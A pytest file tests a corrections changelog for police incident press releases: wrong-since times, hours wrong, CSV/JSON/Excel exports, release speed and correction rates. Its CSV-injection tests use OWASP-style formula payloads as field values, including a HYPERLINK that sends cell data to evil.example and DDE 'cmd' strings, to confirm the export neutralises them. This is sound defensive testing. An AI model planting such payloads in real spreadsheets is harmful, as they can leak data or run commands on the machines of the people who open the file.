import csv
import io
import json
import math
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

import sample  # noqa: E402

from releases import catalog as catalog_mod  # noqa: E402
from releases import changelog  # noqa: E402

SECOND = {**sample.PRELIMINARY, "incident_id": "2026-0150", "headline": "Death in custody at the county jail"}
SECOND_FIX = {
    "incident_id": "2026-0150",
    "stage": "corrected",
    "headline": "Death in custody at the county detention center",
    "location": "County detention center on Court St",
    "correction_note": "The facility was misnamed.",
    "keep_unchanged": ["body"],  # the statement still names the first location: confirmed as it is
}


BASE = "https://news.example.org/releases"


def rows(catalog):
    """The changelog rows of a catalog's corrections (its window: every correction, in these tests)."""
    return changelog.rows_of(catalog["corrections"], BASE)


def two_corrected(second_times=("2026-11-23T12:00:00Z", "2026-11-23T18:30:00Z")):
    return catalog_mod.build(
        {
            "2026-0142": sample.history(),
            "2026-0150": sample.history((SECOND, SECOND_FIX), list(second_times)),
        },
        feed_window=50,
        index_window=100,
    )[0]


def test_sample_catalog_gives_one_row_for_its_one_corrected_field():
    df = changelog.frame(rows(sample.catalog()))
    assert list(df.columns) == list(changelog.COLUMNS)
    assert rows(sample.catalog()) == [
        {
            "correction_id": "2026-0142/v3",
            "corrected_at": "2026-11-22T15:45:00Z",
            "incident_id": "2026-0142",
            "version": 3,
            "headline": sample.PRELIMINARY["headline"],
            "url": f"{BASE}/incidents/2026-0142/index.html",
            "agency": "Springfield Police Department",
            "occurred_at": "2026-11-20T21:14:00-05:00",
            # As the pages name it; field_key is the record's name for it.
            "field": "Location",
            "field_key": "location",
            "was": "5th St and Main St",
            "now": "6th St and Main St",
            "correction_note": sample.CORRECTION["correction_note"],
            # 5th St went out in v1 (03:00), was carried over by v2 (an update of the summary) and
            # corrected in v3: wrong since v1, for 36.75 hours, not since v2.
            "wrong_since": "2026-11-21T03:00:00Z",
            "wrong_since_version": 1,
            "hours_wrong": 36.75,
        }
    ]


def test_wrong_since_is_when_the_wrong_value_was_first_published_not_the_previous_version():
    """v1 publishes 5th St, v2 updates another field, v3 corrects the location: wrong since v1's time."""
    records = sample.history()
    assert [r["stage"] for r in records] == ["preliminary", "updated", "corrected"]
    assert records[0]["location"] == records[1]["location"] == "5th St and Main St"
    (row,) = changelog.rows_of([catalog_mod._correction_entry(records)], BASE)
    assert (row["wrong_since"], row["wrong_since_version"]) == (records[0]["released_at"], 1)
    assert row["wrong_since"] != records[1]["released_at"]
    # The same through the catalog, the month files and a rebuild (catalog.build over every record).
    assert rows(sample.catalog())[0]["wrong_since"] == sample.TIMES[0]


def test_wrong_since_is_the_version_that_introduced_the_wrong_value():
    """v1 says 5th St, v2 updates it to 7th St (wrong), v3 carries it over, v4 corrects it: wrong since v2."""
    docs = (
        sample.PRELIMINARY,
        # (The headline and statement keep naming 5th St: confirmed, as the consistency check asks.)
        {
            "incident_id": "2026-0142",
            "stage": "updated",
            "location": "7th St and Main St",
            "keep_unchanged": ["headline", "summary", "body"],
        },
        sample.UPDATE,
        sample.CORRECTION,
    )
    times = ["2026-11-21T03:00:00Z", "2026-11-21T05:00:00Z", "2026-11-21T09:30:00Z", "2026-11-21T11:00:00Z"]
    records = sample.history(docs, times)
    (row,) = changelog.rows_of([catalog_mod._correction_entry(records)], BASE)
    assert (row["was"], row["wrong_since"], row["wrong_since_version"], row["hours_wrong"]) == (
        "7th St and Main St",
        times[1],
        2,
        6.0,
    )


def test_wrong_since_for_each_field_of_one_correction():
    # 2026-0150: the headline and the location, both published in v1 and corrected in v2.
    found = [r for r in rows(two_corrected()) if r["incident_id"] == "2026-0150"]
    assert [(r["field"], r["wrong_since_version"], r["hours_wrong"]) for r in found] == [
        ("Headline", 1, 6.5),
        ("Location", 1, 6.5),
    ]
    assert {r["correction_id"] for r in found} == {"2026-0150/v2"}


def test_one_row_per_corrected_field_newest_correction_first_fields_in_record_order():
    df = changelog.frame(rows(two_corrected()))
    assert list(zip(df["incident_id"], df["version"], df["field_key"], strict=True)) == [
        ("2026-0150", 2, "headline"),
        ("2026-0150", 2, "location"),
        ("2026-0142", 3, "location"),
    ]
    assert list(df["hours_wrong"]) == [6.5, 6.5, 36.75]


def test_field_names_are_the_pages_labels():
    from releases import render

    fix = {**sample.CORRECTION, "body": "A new statement.", "contact": "PIO, 555-0199"}
    catalog = catalog_mod.build(
        {"2026-0142": sample.history((sample.PRELIMINARY, fix), sample.TIMES[:2])},
        feed_window=50,
        index_window=100,
    )[0]
    found = rows(catalog)
    assert [(r["field"], r["field_key"]) for r in found] == [
        ("Statement", "body"),
        ("Location", "location"),
        ("Media contact", "contact"),
    ]
    page = render.corrections_page(catalog, found, render.Settings()).decode()
    for label in ("Statement", "Location", "Media contact"):
        assert f'data-label="Field">{label}</td>' in page


def test_order_does_not_depend_on_the_catalog_order():
    catalog = two_corrected()
    shuffled = {**catalog, "corrections": list(reversed(catalog["corrections"]))}
    assert changelog.to_csv(rows(shuffled)) == changelog.to_csv(rows(catalog))


def test_ties_on_release_time_fall_back_to_incident_id():
    catalog = two_corrected(("2026-11-22T09:00:00Z", "2026-11-22T15:45:00Z"))
    df = changelog.frame(rows(catalog))
    assert list(df["incident_id"]) == ["2026-0142", "2026-0150", "2026-0150"]


def test_hours_are_rounded_to_two_places():
    catalog = two_corrected(("2026-11-23T12:00:00Z", "2026-11-23T12:20:00Z"))
    assert changelog.frame(rows(catalog))["hours_wrong"].iloc[0] == 0.33


def test_empty_catalog_has_the_same_columns_and_types():
    empty, full = changelog.frame(rows(catalog_mod.empty())), changelog.frame(rows(sample.catalog()))
    assert len(empty) == 0
    assert list(empty.columns) == list(full.columns)
    assert list(empty.dtypes) == list(full.dtypes)
    assert changelog.to_csv([]) == (",".join(f'"{c}"' for c in changelog.COLUMNS) + "\n").encode()
    assert changelog.to_json([]) == b"[]\n"


def test_csv_agrees_with_the_frame():
    data = changelog.to_csv(rows(two_corrected()))
    assert b"\r" not in data
    assert not data.startswith(changelog.BOM)  # the plain CSV is standard UTF-8, no byte order mark
    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert [list(r) for r in parsed][0] == list(changelog.COLUMNS)
    expected = [{k: str(v) for k, v in row.items()} for row in rows(two_corrected())]
    assert parsed == expected


def test_the_excel_download_is_the_csv_with_a_byte_order_mark():
    plain = changelog.to_csv(rows(two_corrected()))
    excel = changelog.to_excel_csv(plain)
    assert excel == b"\xef\xbb\xbf" + plain
    # What Excel on Windows does: a BOM means UTF-8; without one it reads the ANSI code page (mojibake).
    assert excel.decode("utf-8-sig") == plain.decode("utf-8")
    assert "Seán" in changelog.to_excel_csv("Seán".encode()).decode("utf-8-sig")
    assert "SeÃ¡n" == "Seán".encode().decode("cp1252")
    assert changelog.excel_key("corrections/2026-11.csv") == "corrections/2026-11.excel.csv"


def test_json_agrees_with_the_frame_and_keeps_text_as_is():
    catalog = two_corrected()
    catalog["corrections"][0]["correction_note"] = "Fixed \u00e9t\u00e9 / 🚓 <b>"
    data = changelog.to_json(rows(catalog))
    assert "Fixed \u00e9t\u00e9 / 🚓 <b>".encode() in data  # not ASCII-escaped, "/" not escaped
    assert json.loads(data) == rows(catalog)


def test_an_entry_without_wrong_since_gives_null_not_nan():
    # A catalog entry stored before wrong_since existed (until releases rebuild).
    catalog = sample.catalog()
    del catalog["corrections"][0]["wrong_since"]
    df = changelog.frame(rows(catalog))
    assert math.isnan(df["hours_wrong"].iloc[0])
    row = json.loads(changelog.to_json(rows(catalog)))[0]
    assert row["wrong_since"] is None and row["hours_wrong"] is None and row["wrong_since_version"] is None
    assert row["correction_id"] == "2026-0142/v3"
    assert changelog.to_csv(rows(catalog)).decode().splitlines()[1].endswith(',"","",""')


# OWASP's CSV-injection examples, as a PIO could type them (each passes intake).
FORMULAS = {
    "headline": '=HYPERLINK("http://evil.example/?x="&A1,"Body-cam video")',
    "summary": "-2+3+cmd|' /C calc'!A0",
    "location": "+1 (5th St)",
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body": "\t=1+1 then words",
}
FORMULA_NOTE = "=cmd|' /C notepad'!'A1'"


def formula_catalog():
    fix = {"incident_id": "2026-0142", "stage": "corrected", **FORMULAS, "correction_note": FORMULA_NOTE}
    catalog = catalog_mod.build(
        {"2026-0142": sample.history((sample.PRELIMINARY, fix), sample.TIMES[:2])},
        feed_window=50,
        index_window=100,
    )[0]
    # A carriage return cannot pass intake (it is a control character), but an old record
    # could hold one: the CSV must not rely on intake.
    catalog["corrections"][0]["changes"].append({"field": "contact", "was": "\r=1+1", "now": "ok"})
    return catalog


def test_csv_opened_with_the_csv_module_has_no_cell_that_starts_like_a_formula():
    data = changelog.to_csv(rows(formula_catalog()))
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]
    assert len(cells) == len(changelog.COLUMNS) * 7
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    # Neutralised the OWASP way: a leading single quote, the text otherwise as it is.
    for text in (*FORMULAS.values(), FORMULA_NOTE, "\r=1+1"):
        assert "'" + text.strip("\n ") in cells


def test_json_and_html_keep_the_exact_text_of_formula_like_cells():
    from releases import render
    from releases.settings import Settings

    catalog = formula_catalog()
    found = json.loads(changelog.to_json(rows(catalog)))
    assert {r["field_key"]: r["now"] for r in found} == {**FORMULAS, "contact": "ok"}
    assert {r["correction_note"] for r in found} == {FORMULA_NOTE}
    page = render.corrections_page(catalog, rows(catalog), Settings()).decode()
    assert "<ins>@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</ins>" in page
    assert "'@SUM" not in page and "&#39;=HYPERLINK" not in page


def test_numbers_stay_numbers_in_the_csv():
    data = changelog.to_csv(rows(sample.catalog())).decode()
    assert data.splitlines()[1].startswith('"2026-0142/v3","2026-11-22T15:45:00Z","2026-0142",3,"')
    assert data.splitlines()[1].endswith(',"2026-11-21T03:00:00Z",1,36.75')


@pytest.mark.parametrize("write", [changelog.to_csv, changelog.to_json], ids=["csv", "json"])
def test_downloads_are_deterministic(write):
    assert write(rows(two_corrected())) == write(rows(two_corrected()))


# --- release speed --------------------------------------------------------------------------------
# sample: occurred 2026-11-21T02:14Z. 2026-0142 first released 03:00Z (0.77 h), corrected
# 2026-11-22T15:45Z (37.52 h). 2026-0150 first released 2026-11-23T12:00Z (57.77 h), and in
# two_corrected() corrected at 18:30Z (64.27 h).


def test_speed_has_a_first_release_per_incident_and_a_row_per_correction():
    df = changelog.speed_frame(two_corrected())
    assert list(df.columns) == list(changelog.SPEED_COLUMNS)
    assert list(
        zip(df["incident_id"], df["event"], df["version"], df["hours_after_incident"], strict=True)
    ) == [
        ("2026-0142", "first release", 1, 0.77),
        ("2026-0142", "correction", 3, 37.52),
        ("2026-0150", "first release", 1, 57.77),
        ("2026-0150", "correction", 2, 64.27),
    ]


def test_speed_medians():
    medians = changelog.speed_medians(changelog.speed_frame(two_corrected()))
    assert medians == {
        "first release": {"count": 2, "median_hours": round((0.77 + 57.77) / 2, 2)},
        "correction": {"count": 2, "median_hours": round((37.52 + 64.27) / 2, 2)},
    }


def test_speed_of_corrections_comes_from_the_correction_records_alone():
    # The catalog summarises only the newest incidents; a correction of an incident that
    # dropped off still counts, from the occurred_at and released_at its record carries.
    catalog = two_corrected()
    catalog["incidents"].pop("2026-0142")
    df = changelog.speed_frame(catalog)
    assert list(zip(df["incident_id"], df["event"], strict=True)) == [
        ("2026-0142", "correction"),
        ("2026-0150", "first release"),
        ("2026-0150", "correction"),
    ]
    assert changelog.speed_medians(df)["first release"] == {"count": 1, "median_hours": 57.77}
    by_incident = changelog.speed_by_incident(df)
    assert by_incident[0] == {
        "incident_id": "2026-0142",
        "occurred_at": sample.PRELIMINARY["occurred_at"],
        "first_release_hours": None,
        "corrections": [{"version": 3, "hours": 37.52}],
    }


def test_speed_by_incident_lists_each_correction_in_version_order():
    catalog = two_corrected()
    shuffled = {**catalog, "corrections": list(reversed(catalog["corrections"]))}
    assert changelog.speed_by_incident(changelog.speed_frame(shuffled)) == [
        {
            "incident_id": "2026-0142",
            "occurred_at": sample.PRELIMINARY["occurred_at"],
            "first_release_hours": 0.77,
            "corrections": [{"version": 3, "hours": 37.52}],
        },
        {
            "incident_id": "2026-0150",
            "occurred_at": SECOND["occurred_at"],
            "first_release_hours": 57.77,
            "corrections": [{"version": 2, "hours": 64.27}],
        },
    ]


def test_speed_of_an_empty_catalog():
    df = changelog.speed_frame(catalog_mod.empty())
    assert len(df) == 0 and list(df.columns) == list(changelog.SPEED_COLUMNS)
    assert changelog.speed_medians(df) == {
        "first release": {"count": 0, "median_hours": None},
        "correction": {"count": 0, "median_hours": None},
    }
    assert changelog.speed_by_incident(df) == []


# --- the releases table: one row per version, the denominator of a correction rate -------------------


def test_one_release_row_per_version_with_the_fields_it_changed_and_corrected():
    records = sample.history()
    rows = changelog.with_releases([], records)
    assert rows == [
        {
            "incident_id": "2026-0142",
            "version": 3,
            "stage": "corrected",
            "released_at": "2026-11-22T15:45:00Z",
            "occurred_at": "2026-11-20T21:14:00-05:00",
            "changed_fields": "Location",
            "corrected_fields": "Location",
            "correction_id": "2026-0142/v3",
        },
        {
            "incident_id": "2026-0142",
            "version": 2,
            "stage": "updated",
            "released_at": "2026-11-21T09:30:00Z",
            "occurred_at": "2026-11-20T21:14:00-05:00",
            "changed_fields": "Summary",
            "corrected_fields": "",
            "correction_id": "",
        },
        {
            "incident_id": "2026-0142",
            "version": 1,
            "stage": "preliminary",
            "released_at": "2026-11-21T03:00:00Z",
            "occurred_at": "2026-11-20T21:14:00-05:00",
            "changed_fields": "",
            "corrected_fields": "",
            "correction_id": "",
        },
    ]
    # Added one at a time, in any order, or again (a retried release): the same rows.
    one_by_one: list = []
    for record in reversed(records):
        one_by_one = changelog.with_releases(one_by_one, [record])
    assert changelog.with_releases(one_by_one, records[1:2]) == one_by_one == rows


def test_a_correction_rate_from_the_downloads():
    """What a newsroom does: corrections per release and per incident, from the releases CSV alone."""
    import pandas as pd

    second = sample.history((SECOND, SECOND_FIX), ["2026-11-23T12:00:00Z", "2026-11-23T18:30:00Z"])
    third = sample.history(({**SECOND, "incident_id": "2026-0151"},), ["2026-11-24T08:00:00Z"])
    rows = changelog.with_releases([], [*sample.history(), *second, *third])
    table = pd.read_csv(io.BytesIO(changelog.releases_csv(rows)), keep_default_na=False)
    assert list(table.columns) == list(changelog.RELEASE_COLUMNS)
    corrections = table[table["stage"] == "corrected"]
    assert len(table) == 6 and len(corrections) == 2
    assert len(corrections) / len(table) == 1 / 3  # corrections per release
    corrected = corrections["incident_id"].nunique() / table["incident_id"].nunique()
    assert corrected == 2 / 3  # incidents corrected at least once
    assert set(corrections["correction_id"]) == {"2026-0142/v3", "2026-0150/v2"}
    # The same correction ids as the changelog's rows: the two tables join.
    assert set(corrections["correction_id"]) == {r["correction_id"] for r in rows_of_two()}


def rows_of_two():
    return rows(two_corrected())
